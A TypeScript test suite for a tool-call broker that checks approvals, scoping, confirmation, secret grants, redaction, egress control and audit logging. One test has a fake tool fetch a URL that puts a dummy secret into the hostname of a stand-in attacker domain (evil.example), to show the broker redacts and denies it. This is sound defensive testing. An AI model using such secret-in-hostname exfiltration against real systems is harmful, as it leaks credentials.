/**
 * The broker pipeline in isolation (SPEC §8–§10): a real registry, lock and
 * config, a fake executor and an in-memory audit log, so every step can be
 * observed in order and every guard can be shown to matter.
 * find → kill switch → approval → scope → input schema → confirm → re-admit →
 * admission → execute → redact + output schema → audit.
 */
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { loadRegistry, type Broker, type CallContext, type ConfirmationAnswer } from "../../src/broker/index.js";
import { loadConfigFile } from "../../src/config/load.js";
import { lockPathFor, readLock } from "../../src/policy/lock.js";
import { approveAll, isolateManifest } from "../helpers/workspace.js";
import { fakeBroker } from "../helpers/fake-broker.js";


const SECRET = "broker-test-secret-123";

async function setUp(config: Record<string, unknown> = {}) {
  return fakeBroker(
    {
      echo: {
        manifest: isolateManifest("echo", {
          inputSchema: { type: "object", properties: { n: { type: "number" } }, additionalProperties: false },
          outputSchema: { type: "object", properties: { echo: { type: "object" } }, required: ["echo"] },
          capabilities: { env: ["BROKER_SECRET"] },
        }),
        files: { "index.js": "export default async function run(i) { return { echo: i }; }\n" },
      },
      eraser: { manifest: isolateManifest("eraser", { effect: "destructive" }), files: { "index.js": "export default async function run() { return {}; }\n" } },
    },
    { secrets: { BROKER_SECRET: { env: "WARDEN_BROKER_SECRET" } }, ...config },
    { ...process.env, WARDEN_BROKER_SECRET: SECRET },
  );
}

const ctx = (extra: Partial<CallContext> = {}): CallContext => ({ actor: "tester", signal: new AbortController().signal, ...extra });
const codeOf = (r: { ok: boolean; error?: { code: string } }) => (r.ok ? "ok" : r.error!.code);

describe("broker pipeline with a fake executor", () => {
  test("a call runs the executor once with the validated input and the granted secrets, and is audited", async () => {
    const { broker, executor, audit } = await setUp();
    const r = await broker.call("echo", { n: 1 }, ctx());
    assert.deepEqual(r.ok && r.output, { echo: { n: 1 } });
    assert.equal(executor.requests.length, 1);
    assert.deepEqual(executor.requests[0]!.env, { BROKER_SECRET: SECRET });
    assert.equal(audit.records.length, 1);
    assert.equal(audit.records[0]!.outcome, "ok");
    assert.equal(audit.records[0]!.actor, "tester");
  });

  test("unknown tool: refused before anything runs, still audited", async () => {
    const { broker, executor, audit } = await setUp();
    assert.equal(codeOf(await broker.call("nope", {}, ctx())), "E_UNKNOWN_TOOL");
    assert.equal(executor.requests.length, 0);
    assert.equal(audit.records[0]!.errorCode, "E_UNKNOWN_TOOL");
  });

  test("kill switch comes before input validation", async () => {
    const { broker, executor } = await setUp({ disabled: ["echo"] });
    assert.equal(codeOf(await broker.call("echo", { n: "not a number" }, ctx())), "E_DISABLED");
    assert.equal(executor.requests.length, 0);
  });

  test("an identity's scope is enforced before input validation, answered like an unknown tool and audited as E_FORBIDDEN", async () => {
    const { broker, executor, audit } = await setUp();
    assert.equal(codeOf(await broker.call("eraser", { bad: true }, ctx({ allow: ["read"] }))), "E_UNKNOWN_TOOL");
    assert.equal(audit.records[0]!.errorCode, "E_FORBIDDEN");
    assert.equal(executor.requests.length, 0);
  });

  test("scope comes before the input's shape too: an out-of-scope caller cannot tell a tool exists by sending bad arguments", async () => {
    const { broker, executor, audit } = await setUp();
    let deep: unknown = 1;
    for (let i = 0; i < 200; i++) deep = { d: deep };
    for (const args of ["not an object", deep]) {
      assert.equal(codeOf(await broker.call("eraser", args, ctx({ allow: ["read"] }))), "E_UNKNOWN_TOOL");
      assert.equal(audit.records.at(-1)!.errorCode, "E_FORBIDDEN");
    }
    assert.equal(executor.requests.length, 0);
  });

  test("arguments that are not a bounded JSON object are refused as such, before the schema and the executor", async () => {
    const { broker, executor } = await setUp();
    let deep: unknown = 1;
    for (let i = 0; i < 200; i++) deep = { d: deep };
    for (const [args, reason] of [[deep, /input refused: nested deeper/], ["text", /input refused: arguments must be a JSON object/]] as const) {
      const r = await broker.call("eraser", args, ctx({ confirm: async () => ({ accepted: true, by: "h" }) }));
      assert.equal(codeOf(r), "E_INPUT_INVALID");
      assert.match(!r.ok ? r.error.message : "", reason);
    }
    assert.equal(executor.requests.length, 0);
  });

  test("a tool quarantined for one identity refuses that identity only (E_DISABLED), before anything runs", async () => {
    const { broker, executor } = await setUp({ quarantined: { echo: ["tester"] } });
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_DISABLED");
    assert.equal(executor.requests.length, 0);
    assert.equal(codeOf(await broker.call("echo", {}, ctx({ actor: "someone-else" }))), "ok");
    assert.equal(executor.requests.length, 1);
  });

  test("an unapproved digest is refused", async () => {
    const { broker, executor, loaded, env } = await setUp();
    writeFileSync(join(loaded.file, "..", "tools", "echo", "index.js"), "export default async function run() { return { echo: 'changed' }; }\n");
    broker.update({ registry: await loadRegistry(loaded, env) });
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_NOT_APPROVED");
    assert.equal(executor.requests.length, 0);
  });

  test("invalid input is refused before a human is asked and before the executor", async () => {
    const { broker, executor } = await setUp({ confirm: ["read", "destructive"] });
    let asked = 0;
    const r = await broker.call("echo", { n: "x" }, ctx({ confirm: async () => ((asked += 1), { accepted: true, by: "h" }) }));
    assert.equal(codeOf(r), "E_INPUT_INVALID");
    assert.equal(asked, 0);
    assert.equal(executor.requests.length, 0);
  });

  test("a declined confirmation never runs the tool", async () => {
    const { broker, executor, audit } = await setUp();
    const r = await broker.call("eraser", {}, ctx({ confirm: async () => ({ accepted: false, by: null }) }));
    assert.equal(codeOf(r), "E_NOT_CONFIRMED");
    assert.equal(executor.requests.length, 0);
    assert.equal(audit.records[0]!.errorCode, "E_NOT_CONFIRMED");
  });

  test("re-admission after confirmation: the tool's files changed (and were approved) while the human decided ⇒ E_NOT_APPROVED, nothing runs", async () => {
    const { broker, executor, loaded, env, ws } = await setUp();
    let answer!: (a: ConfirmationAnswer) => void;
    const asked = new Promise<void>((resolveAsked) => {
      void broker
        .call("eraser", {}, ctx({ confirm: () => (resolveAsked(), new Promise<ConfirmationAnswer>((r) => (answer = r))) }))
        .then((r) => (result = r));
    });
    let result: Awaited<ReturnType<Broker["call"]>> | undefined;
    await asked;
    // A new version of the tool, approved too: still callable, so nothing cancels the waiting call.
    writeFileSync(join(ws.toolDir("eraser"), "index.js"), "export default async function run() { return { v: 2 }; }\n");
    await approveAll(ws);
    broker.update({ registry: await loadRegistry(loaded, env), lock: await readLock(lockPathFor(loaded.file)) });
    answer({ accepted: true, by: "human" });
    while (!result) await new Promise((r) => setTimeout(r, 5));
    assert.equal(codeOf(result), "E_NOT_APPROVED", "the confirmed version is not the one that would run");
    assert.equal(executor.requests.length, 0);
  });

  test("disabling a tool while its call waits for a human: refused and nothing runs", async () => {
    const { broker, executor } = await setUp();
    let answer!: (a: ConfirmationAnswer) => void;
    let result: Awaited<ReturnType<Broker["call"]>> | undefined;
    const asked = new Promise<void>((resolveAsked) => {
      void broker.call("eraser", {}, ctx({ confirm: () => (resolveAsked(), new Promise<ConfirmationAnswer>((r) => (answer = r))) })).then((r) => (result = r));
    });
    await asked;
    broker.update({ config: { ...broker.currentConfig, disabled: ["eraser"] } });
    answer({ accepted: true, by: "human" });
    while (!result) await new Promise((r) => setTimeout(r, 5));
    assert.ok(["E_DISABLED", "E_CANCELLED"].includes(codeOf(result)));
    assert.equal(executor.requests.length, 0, "the tool never ran");
  });

  test("re-admission after confirmation runs the tool as it is NOW: a secret grant revoked while the human decided is not passed", async () => {
    // Same files, same approval: only the operator's grant changed. Running the tool object captured before
    // the human's answer would hand it the revoked secret.
    const { broker, executor, ws, env } = await setUp({ confirm: ["read"] });
    let answer!: (a: ConfirmationAnswer) => void;
    let result: Awaited<ReturnType<Broker["call"]>> | undefined;
    const asked = new Promise<void>((resolveAsked) => {
      void broker.call("echo", {}, ctx({ confirm: () => (resolveAsked(), new Promise<ConfirmationAnswer>((r) => (answer = r))) })).then((r) => (result = r));
    });
    await asked;
    const raw = JSON.parse(readFileSync(ws.configPath, "utf8")) as Record<string, unknown>;
    writeFileSync(ws.configPath, JSON.stringify({ ...raw, grants: { echo: { env: [] } } }));
    const narrowed = await loadConfigFile(ws.configPath);
    broker.update({ config: narrowed.config, registry: await loadRegistry(narrowed, env) });
    answer({ accepted: true, by: "human" });
    while (!result) await new Promise((r) => setTimeout(r, 5));
    assert.equal(codeOf(result), "ok");
    assert.equal(executor.requests.length, 1);
    assert.deepEqual(executor.requests[0]!.env, {}, "the revoked secret never reaches the tool");
  });

  test("re-admission after the wait for a slot: a scope narrowed while the call queued refuses it, nothing runs", async () => {
    const { broker, executor, audit } = await setUp({ concurrency: { maxInFlight: 1, maxQueue: 4 } });
    let release!: () => void;
    const done = { ok: true, output: { echo: {} }, outputBytes: 2 } as const;
    // Only the first call is held; a second one (if the guard were missing) answers at once instead of hanging.
    executor.next = () => (executor.requests.length === 1 ? new Promise((r) => (release = () => r(done))) : Promise.resolve(done));
    const first = broker.call("echo", {}, ctx());
    while (executor.requests.length === 0) await new Promise((r) => setTimeout(r, 5));
    // The scope narrows only once the running call is released, i.e. while the second one waits for the slot
    // (it queues before broker.call returns; if it did not, it would be refused earlier and the test still holds).
    let released = false;
    let asked = 0;
    const queued = broker.call("echo", {}, ctx({ allow: () => (asked++, released ? [] : undefined) }));
    assert.ok(asked > 0, "the queued call passed its first checks");
    released = true;
    release();
    assert.equal(codeOf(await first), "ok");
    assert.equal(codeOf(await queued), "E_UNKNOWN_TOOL");
    assert.equal(executor.requests.length, 1, "the queued call never reached the executor");
    assert.equal(audit.records.at(-1)!.errorCode, "E_FORBIDDEN");
  });

  // Found by the mutation work (issue 15): execute() re-admitted after the slot wait but ran the tool captured
  // before it, with the secrets and grants of then.
  test("a secret grant revoked while the call waited for a slot is not passed to the tool", async () => {
    const { broker, executor, ws, env } = await setUp({ concurrency: { maxInFlight: 1, maxQueue: 4 } });
    let release!: () => void;
    const done = { ok: true, output: { echo: {} }, outputBytes: 2 } as const;
    executor.next = () => (executor.requests.length === 1 ? new Promise((r) => (release = () => r(done))) : Promise.resolve(done));
    const first = broker.call("echo", {}, ctx());
    while (executor.requests.length === 0) await new Promise((r) => setTimeout(r, 5));
    const queued = broker.call("echo", {}, ctx());
    const raw = JSON.parse(readFileSync(ws.configPath, "utf8")) as Record<string, unknown>;
    writeFileSync(ws.configPath, JSON.stringify({ ...raw, grants: { echo: { env: [] } } }));
    const narrowed = await loadConfigFile(ws.configPath);
    broker.update({ config: narrowed.config, registry: await loadRegistry(narrowed, env) });
    release();
    assert.equal(codeOf(await first), "ok");
    assert.equal(codeOf(await queued), "ok");
    assert.deepEqual(executor.requests[1]!.env, {}, "the revoked secret never reaches the tool");
  });

  test("secret values are redacted from the output and the record says so", async () => {
    const { broker, executor, audit } = await setUp();
    executor.next = async () => ({ ok: true, output: { echo: { leaked: SECRET } }, outputBytes: 40 });
    const r = await broker.call("echo", {}, ctx());
    assert.deepEqual(r.ok && r.output, { echo: { leaked: "[REDACTED]" } });
    assert.equal(audit.records[0]!.outputRedacted, true);
    assert.ok(!JSON.stringify(audit.records).includes(SECRET));
  });

  test("a secret in a tool's error message is redacted from the answer", async () => {
    const { broker, executor } = await setUp();
    executor.next = async () => ({ ok: false, error: { code: "E_TOOL_FAILED", message: `could not log in with ${SECRET}` } });
    const r = await broker.call("echo", {}, ctx());
    assert.equal(codeOf(r), "E_TOOL_FAILED");
    assert.ok(!JSON.stringify(r).includes(SECRET), JSON.stringify(r));
    assert.match(!r.ok ? r.error.message : "", /\[REDACTED\]/);
  });

  test("policy reaches the backend with the call: the effective network grants on the request, egress seen by the backend recorded through the host", async () => {
    const { broker, executor, audit } = await fakeBroker(
      {
        netter: {
          manifest: isolateManifest("netter", { capabilities: { network: { allow: ["https://api.example.com", "https://other.example.com"] } } }),
          files: { "index.js": "export default async function run() { return {}; }\n" },
        },
      },
      // Only one of the two declared hosts is granted: the request carries the intersection, not the manifest.
      { grants: { netter: { network: [{ host: "https://api.example.com" }] } } },
    );
    executor.next = async (req) => {
      // What a container egress proxy reports: one allowed exchange and one refused.
      req.host.recordEgress({ host: "api.example.com", port: 443, method: "CONNECT", status: 200, bytes: 10 });
      req.host.recordEgress({ host: "evil.example", port: 443, method: "CONNECT", status: null, bytes: 0, denied: "not allowed" });
      return { ok: true, output: {}, outputBytes: 2 };
    };
    const r = await broker.call("netter", {}, ctx());
    assert.ok(r.ok);
    assert.deepEqual(executor.requests[0]!.network?.map((g) => g.pattern), ["https://api.example.com"]);
    assert.deepEqual(audit.records[0]!.egress.map((e) => e.host), ["api.example.com", "evil.example"]);
    assert.equal(audit.records[0]!.egress[1]!.denied, "not allowed");
  });

  test("a secret smuggled into a tool-chosen string of the record (an egress host) never reaches the audit log", async () => {
    const { broker, executor, audit } = await setUp();
    executor.next = async (req) => {
      await req.host.fetch({ url: `https://${SECRET}.evil.example/` });
      return { ok: true, output: { echo: {} }, outputBytes: 10 };
    };
    await broker.call("echo", {}, ctx());
    assert.equal(audit.records.length, 1);
    assert.ok(audit.records[0]!.egress.length > 0, "the denied request is recorded");
    assert.ok(!JSON.stringify(audit.records).toLowerCase().includes(SECRET.toLowerCase()), JSON.stringify(audit.records[0]!.egress));
  });

  test("input keys listed in audit.redact are redacted in the record and in what the human is asked", async () => {
    const { broker, audit } = await setUp();
    let shown: unknown;
    await broker.call("eraser", { password: "hunter2", nested: { Token: "abc" }, keep: 1 }, ctx({ confirm: async (req) => ((shown = req.input), { accepted: true, by: "h" }) }));
    const expected = { password: "[REDACTED]", nested: { Token: "[REDACTED]" }, keep: 1 };
    assert.deepEqual(shown, expected);
    assert.deepEqual(audit.records[0]!.input, expected);
  });

  test("output that does not match the outputSchema is refused", async () => {
    const { broker, executor } = await setUp();
    executor.next = async () => ({ ok: true, output: { nope: 1 }, outputBytes: 10 });
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_OUTPUT_INVALID");
  });

  test("a tool failure after a recorded denial is reported as the denial", async () => {
    const { broker, executor } = await setUp();
    executor.next = async (req) => {
      await req.host.fetch({ url: "https://evil.example/" });
      return { ok: false, error: { code: "E_TOOL_FAILED", message: "fetch failed" } };
    };
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_CAPABILITY_DENIED");
  });

  test("past in-flight + queue, E_BUSY at once", async () => {
    const { broker, executor } = await setUp({ concurrency: { maxInFlight: 1, maxQueue: 0 } });
    let release!: () => void;
    executor.next = () => new Promise((r) => (release = () => r({ ok: true, output: { echo: {} }, outputBytes: 2 })));
    const first = broker.call("echo", {}, ctx());
    while (executor.requests.length === 0) await new Promise((r) => setTimeout(r, 5));
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_BUSY");
    release();
    assert.equal(codeOf(await first), "ok");
  });

  test("once the audit log cannot be written, every later call is refused before it runs", async () => {
    const { broker, executor, audit } = await setUp();
    audit.fail = true;
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_AUDIT");
    audit.fail = false;
    const before = executor.requests.length;
    assert.equal(codeOf(await broker.call("echo", {}, ctx())), "E_AUDIT");
    assert.equal(executor.requests.length, before, "nothing runs unaudited");
  });
});
